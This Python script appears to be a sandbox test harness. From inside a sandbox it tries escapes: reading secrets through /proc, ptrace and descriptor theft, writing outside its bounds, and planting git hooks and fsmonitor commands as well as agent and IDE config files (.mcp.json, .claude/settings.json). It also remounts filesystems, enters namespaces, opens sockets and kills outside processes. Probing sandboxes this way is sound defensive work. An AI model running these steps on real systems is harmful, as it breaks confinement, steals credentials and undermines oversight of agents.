"""What a command tries that wants out of its sandbox. Run inside one, by path, with the targets as JSON in argv[1].

Every success is a line `HOLE <name> <detail>`; what could be read is printed, so that a canary in the output is a hole too.
Writes and connections are judged outside, by what they left there. Standard library only.
"""

import ctypes
import json
import os
import platform
import signal
import socket
import struct
import subprocess
import sys
from collections.abc import Callable

TARGETS = json.loads(sys.argv[1])
CONTROL = TARGETS["control"]
"""At level none everything is open: the attacks must succeed, and those that would change the machine are left out."""
LIBC = ctypes.CDLL(None, use_errno=True)
ARM = platform.machine() == "aarch64"
ATTACKS: list[Callable[[], object]] = []


def attack(function: Callable[[], object]) -> Callable[[], object]:
    ATTACKS.append(function)
    return function


def hole(name: str, detail: object = "") -> None:
    print("HOLE", name, detail, flush=True)


def syscall(x86: int, arm: int, *arguments: object) -> int:
    # Whole registers: of a plain int the kernel would read 32 bits of something else.
    return LIBC.syscall(
        arm if ARM else x86, *[ctypes.c_long(item) if isinstance(item, int) else item for item in arguments]
    )


def shell(command: str) -> None:
    done = subprocess.run(
        ["bash", "-c", command],
        capture_output=True,
        text=True,
        errors="replace",
        stdin=subprocess.DEVNULL,
        check=False,
        timeout=10,
    )
    print(done.stdout, done.stderr, flush=True)


# ---- reading


@attack
def inherited_descriptors() -> None:
    for name in os.listdir("/proc/self/fd"):
        if int(name) > 2:
            try:
                target = os.readlink(f"/proc/self/fd/{name}")
            except OSError:
                continue
            if not target.endswith("/fd"):
                hole("inherited descriptor", target)


@attack
def read_secret_files() -> None:
    for path in TARGETS["secrets"]:
        for spelling in (
            path,
            "/proc/self/root" + path,
            "/proc/1/root" + path,
            f"/proc/{TARGETS['victim']}/root{path}",
            "/../../.." + path,
            "//" + path,
        ):
            try:
                with open(spelling, "rb") as file:
                    print(spelling, file.read(2000))
            except OSError:
                pass


@attack
def read_through_links() -> None:
    for number, path in enumerate(TARGETS["secrets"]):
        for make in (os.symlink, os.link):
            link = f"link-{number}-{make.__name__}"
            try:
                make(path, link)
                with open(link, "rb") as file:
                    print(link, file.read(2000))
            except OSError:
                pass
            finally:
                if os.path.lexists(link):
                    os.unlink(link)


@attack
def read_by_descending_from_the_parent() -> None:
    shell(
        f"cat ../outside/secret ../*/secret 2>&1; cd .. && ls && cat outside/secret; find {TARGETS['base']} -name '*secret*' -exec cat {{}} + "
    )


@attack
def read_environments() -> None:
    for pid in {*TARGETS["pids"], os.getppid(), 1}:
        for name in ("environ", "cwd/secret", "root/" + TARGETS["secrets"][0], "mem"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    print(pid, name, file.read(4_000 if name == "mem" else 200_000))
            except OSError:
                pass
    print(dict(os.environ))


@attack
def read_memory_of_another_process() -> None:
    buffer = ctypes.create_string_buffer(64)
    local = struct.pack("QQ", ctypes.addressof(buffer), 64)
    remote = struct.pack("QQ", TARGETS["address"], 64)
    if syscall(310, 270, TARGETS["victim"], local, 1, remote, 1, 0) >= 0:
        print(buffer.raw)
    if LIBC.ptrace(16, TARGETS["victim"], 0, 0) == 0:
        hole("ptrace")
        LIBC.ptrace(17, TARGETS["victim"], 0, 0)


@attack
def take_descriptor_of_another_process() -> None:
    pidfd = syscall(434, 434, TARGETS["victim"], 0)
    if pidfd >= 0 and (fd := syscall(438, 438, pidfd, TARGETS["open_file"], 0)) >= 0:
        print(os.pread(fd, 2000, 0))


@attack
def read_kernel_keys() -> None:
    buffer = ctypes.create_string_buffer(100)
    if syscall(250, 219, 11, ctypes.c_int32(TARGETS["key"]), buffer, ctypes.c_size_t(100)) > 0:
        print(buffer.raw)


@attack
def read_shared_memory() -> None:
    LIBC.shmat.restype = ctypes.c_void_p
    at = LIBC.shmat(TARGETS["shared_memory"], None, 0o10000)
    if at not in (None, ctypes.c_void_p(-1).value):
        print(ctypes.string_at(at, 64))


@attack
def read_the_disk_itself() -> None:
    if CONTROL or os.getuid() != 0:
        return
    for major, minor in (tuple(device) for device in TARGETS["disks"]):
        try:
            os.mknod("disk", 0o60600, os.makedev(major, minor))
            with open("disk", "rb") as file:
                hole("block device", len(file.read(512)))
        except OSError:
            pass
        finally:
            if os.path.lexists("disk"):
                os.unlink("disk")


@attack
def read_by_handle() -> None:
    if CONTROL or os.getuid() != 0:
        return
    handle = ctypes.create_string_buffer(struct.pack("Ii", 8, 1) + struct.pack("II", 2, 0) + bytes(128))
    if syscall(304, 265, os.open("/", os.O_RDONLY), handle, os.O_RDONLY) >= 0:
        hole("open_by_handle_at")


# ---- writing


@attack
def write_outside() -> None:
    for path in TARGETS["victims"]:
        for flags in (os.O_WRONLY | os.O_CREAT | os.O_TRUNC, os.O_WRONLY | os.O_APPEND, os.O_RDWR):
            try:
                fd = os.open(path, flags)
                os.write(fd, b"escaped")
                os.close(fd)
            except OSError:
                pass
        for change in (
            lambda path: os.truncate(path, 1),
            os.unlink,
            lambda path: os.rename(path, path + ".moved"),
            lambda path: os.rename("bait", path),
        ):
            try:
                with open("bait", "w") as file:
                    file.write("escaped")
                change(path)
            except OSError:
                pass


@attack
def write_new_files_outside() -> None:
    for directory in TARGETS["directories"]:
        name = os.path.join(directory, TARGETS["name"])
        for make in (
            lambda name: open(name, "w").close(),
            os.mkdir,
            lambda name: os.symlink("/", name),
            os.mkfifo,
            lambda name: os.link("attacker.py", name),
        ):
            try:
                make(name)
            except OSError:
                pass


@attack
def write_through_links() -> None:
    for number, path in enumerate(TARGETS["victims"]):
        link = f"write-link-{number}"
        try:
            os.symlink(path, link)
            with open(link, "a") as file:
                file.write("escaped")
        except OSError:
            pass
        finally:
            if os.path.lexists(link):
                os.unlink(link)


@attack
def write_to_the_kernel() -> None:
    if CONTROL:
        return
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/swappiness", "/sys/kernel/uevent_helper"):
        try:
            with open(path, "r+") as file:
                value = file.read()
                file.seek(0)
                file.write(value)
                file.flush()
                hole("kernel setting", path)
        except OSError:
            pass
    try:
        with open("/proc/sysrq-trigger", "w") as file:
            file.write("h")
            file.flush()
            hole("sysrq")
    except OSError:
        pass


# ---- what stays behind


def _plant(directory: str) -> None:
    for name in ("objects", "refs", "hooks"):
        try:
            os.makedirs(os.path.join(directory, name), exist_ok=True)
        except OSError:
            pass
    for name, text in (
        ("HEAD", "ref: refs/heads/main\n"),
        ("config", "[core]\n\tfsmonitor = touch /tmp/pwned\n"),
        ("config.worktree", "[core]\n\tfsmonitor = touch /tmp/pwned\n"),
        ("hooks/pre-commit", "#!/bin/sh\ntouch /tmp/pwned\n"),
        ("commondir", "../evil\n"),
    ):
        for way in ("open", "rename", "link", "symlink"):
            path = os.path.join(directory, name)
            try:
                if way == "open":
                    with open(path, "w") as file:
                        file.write(text)
                    continue
                with open("bait", "w") as file:
                    file.write(text)
                {"rename": os.rename, "link": os.link, "symlink": os.symlink}[way](
                    os.path.abspath("bait"), path
                )
            except OSError:
                pass


@attack
def plant_repositories() -> None:
    for directory in (
        ".git", ".", "new/.git", "new/bare.git", "repository/.git", "repository/library/.git", "repository/.git/modules/x", "deep/er/.git",
    ):  # fmt: skip
        _plant(directory)
    for name in ("repository/.git", "repository/library/.git", "repository/library"):
        try:
            os.rename(name, name + "-moved")
        except OSError:
            pass
        _plant(name)
    for name, text in (
        (".git", "gitdir: new/bare.git"),
        ("deep/.git", "gitdir: ../new/bare.git"),
        ("other/.git", "gitdir: /tmp/evil"),
    ):
        try:
            os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
            with open(name, "w") as file:
                file.write(text)
        except OSError:
            pass


@attack
def plant_what_programs_obey() -> None:
    for name in (
        ".swink/tools/x.toml",
        ".mcp.json",
        ".vscode/tasks.json",
        ".idea/x.xml",
        ".claude/settings.json",
        "repository/.vscode/settings.json",
    ):
        for way in (
            lambda: os.makedirs(os.path.dirname(name) or "."),
            lambda: os.rename(os.path.dirname(name) or name, "moved"),
            lambda: None,
        ):
            try:
                way()
                with open(name, "w") as file:
                    file.write("planted")
            except OSError:
                pass


@attack
def read_secrets_of_the_workspace() -> None:
    for name in (".env", "deep/er/.env.production", "keys/id_rsa", "later/place"):
        for way in (
            lambda: None,
            lambda: os.rename(name, "moved-secret"),
            lambda: os.link(name, "moved-secret"),
            lambda: os.rename(os.path.dirname(name), "moved-directory"),
        ):
            try:
                way()
            except OSError:
                pass
    shell(
        "cat .env deep/er/.env* keys/* later/* moved-*; grep -r CANARY . --exclude=attacker.py; find . -type f -name '*env*' -exec cat {} +"
    )


# ---- mounts and namespaces


@attack
def remount() -> None:
    if CONTROL:
        return
    shell(
        "mount -o remount,rw / && echo HOLE remount; mount -o remount,bind,rw / && echo HOLE remount-bind; mount -o remount,bind,rw /etc && echo HOLE remount-etc;"
        "mount --bind / /tmp && echo HOLE bind; mount -t tmpfs none /tmp && echo HOLE tmpfs; mount -t proc proc /tmp && echo HOLE proc; umount /proc && echo HOLE umount;"
        f"touch /etc/{TARGETS['name']}; umount -l {TARGETS['base']}; chroot / true && echo HOLE chroot"
    )


@attack
def new_namespaces() -> None:
    if CONTROL:
        return
    shell(
        "unshare -U true && echo HOLE userns; unshare -Urm mount -o remount,rw / && echo HOLE userns-mount; unshare -n true && echo HOLE netns"
    )
    if syscall(272, 97, 0x10000000) == 0:
        hole("unshare")
    for pid in {*TARGETS["pids"], 1}:
        for kind in ("mnt", "net", "pid", "user"):
            try:
                fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            except OSError:
                continue
            if syscall(308, 268, fd, 0) == 0 and kind != "user":
                hole("setns", kind)
    flags = struct.pack("Q", 0x10000000) + bytes(80)
    if syscall(435, 435, flags, ctypes.c_size_t(88)) == 0:
        os._exit(0)  # the child of a clone3 that should not be
    if ctypes.get_errno() not in (38, 1):
        hole("clone3", os.strerror(ctypes.get_errno()))


@attack
def regain_privileges() -> None:
    if CONTROL:
        return
    with open("/proc/self/status") as file:
        status = dict(line.split(":\t", 1) for line in file.read().splitlines() if ":\t" in line)
    if (
        int(status["CapEff"], 16)
        or int(status["CapPrm"], 16)
        or (os.getuid() == 0 and int(status["CapBnd"], 16))
    ):
        hole("capabilities", status["CapEff"])
    if status["NoNewPrivs"].strip() != "1" or status["Seccomp"].strip() != "2":
        hole("no filter", status["Seccomp"])


# ---- network


def _try_connect(family: int, kind: int, address: object) -> None:
    try:
        with socket.socket(family, kind) as sock:
            sock.settimeout(1)
            sock.connect(address)  # type: ignore[arg-type]
            sock.send(b"escaped")
    except OSError:
        pass


@attack
def connect() -> None:
    for host in ("127.0.0.1", TARGETS["host"]):
        _try_connect(socket.AF_INET, socket.SOCK_STREAM, (host, TARGETS["tcp"]))
        _try_connect(socket.AF_INET, socket.SOCK_DGRAM, (host, TARGETS["udp"]))
    _try_connect(socket.AF_INET6, socket.SOCK_STREAM, ("::1", TARGETS["tcp"]))
    shell(
        f"echo escaped > /dev/tcp/127.0.0.1/{TARGETS['tcp']}; echo escaped > /dev/udp/127.0.0.1/{TARGETS['udp']}"
    )


@attack
def connect_to_unix_sockets() -> None:
    for address in TARGETS["unix"]:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            _try_connect(
                socket.AF_UNIX, kind, address.replace("@", "\0", 1) if address.startswith("@") else address
            )


@attack
def odd_sockets() -> None:
    if CONTROL:
        return
    for name, family, kind, protocol in (
        ("vsock", 40, socket.SOCK_STREAM, 0),
        ("packet", 17, socket.SOCK_RAW, 0),
        ("alg", 38, 5, 0),
        ("netlink audit", 16, socket.SOCK_RAW, 9),
        ("netlink uevent", 16, socket.SOCK_RAW, 15),
        ("bluetooth", 31, socket.SOCK_RAW, 0),
    ):
        try:
            socket.socket(family, kind, protocol).close()
            hole("socket", name)
        except OSError:
            pass
    if syscall(425, 425, 4, bytes(120)) >= 0:
        hole("io_uring")


# ---- other processes


@attack
def change_outside_processes() -> None:
    """Limits, processors and priorities of a process that is not ours: setting one to what it is changes nothing and tells all."""
    victim = TARGETS["victim"]
    core = struct.pack("QQ", 0, 0)
    cpus = (ctypes.c_ulong * 16)()
    os_cpus = os.sched_getaffinity(0)
    for cpu in os_cpus:
        cpus[cpu // 64] |= 1 << (cpu % 64)
    parameters = struct.pack("i", 0)
    attributes = struct.pack("IIQiIQQQ", 48, 0, 0, 0, 0, 0, 0, 0)
    nodes = (ctypes.c_ulong * 16)(1)
    for name, x86, arm, arguments in (
        ("prlimit64", 302, 261, (victim, 4, core, None)),
        ("sched_setaffinity", 203, 122, (victim, ctypes.c_size_t(ctypes.sizeof(cpus)), cpus)),
        ("sched_setscheduler", 144, 119, (victim, 0, parameters)),
        ("sched_setparam", 142, 118, (victim, parameters)),
        ("sched_setattr", 314, 274, (victim, attributes, 0)),
        ("setpriority", 141, 140, (0, victim, 0)),
        ("setpriority of the group", 141, 140, (1, victim, 0)),
        ("setpriority of the user", 141, 140, (2, os.getuid(), 0)),
        ("ioprio_set", 251, 30, (1, victim, 0)),
        ("ioprio_set of the user", 251, 30, (3, os.getuid(), 0)),
        ("migrate_pages", 256, 238, (victim, ctypes.c_ulong(64), nodes, nodes)),
        ("move_pages", 279, 239, (victim, ctypes.c_ulong(0), None, None, None, 0)),
    ):
        if syscall(x86, arm, *arguments) == 0 and not (
            TARGETS["namespaces"] and name.endswith("of the user")
        ):
            hole(name)
    for name, x86, arm, arguments in (
        ("prlimit64", 302, 261, (0, 4, core, None)),
        ("sched_setaffinity", 203, 122, (0, ctypes.c_size_t(ctypes.sizeof(cpus)), cpus)),
        ("setpriority", 141, 140, (0, 0, 0)),
        ("ioprio_set", 251, 30, (1, 0, 0)),
    ):
        if syscall(x86, arm, *arguments) != 0:
            hole("nothing of its own may be set", name)


@attack
def signal_outside_processes() -> None:
    for pid in TARGETS["pids"]:
        for send in (lambda pid: os.kill(pid, signal.SIGKILL), lambda pid: os.killpg(pid, signal.SIGKILL)):
            try:
                send(pid)
            except OSError:
                pass
        try:
            fd = os.pidfd_open(pid)
            signal.pidfd_send_signal(fd, signal.SIGKILL)
        except OSError:
            pass


for one in ATTACKS:
    try:
        one()
    except Exception as error:  # one attack that breaks must not spare the rest
        print(one.__name__, type(error).__name__, error, flush=True)
print("ATTACKED", len(ATTACKS))
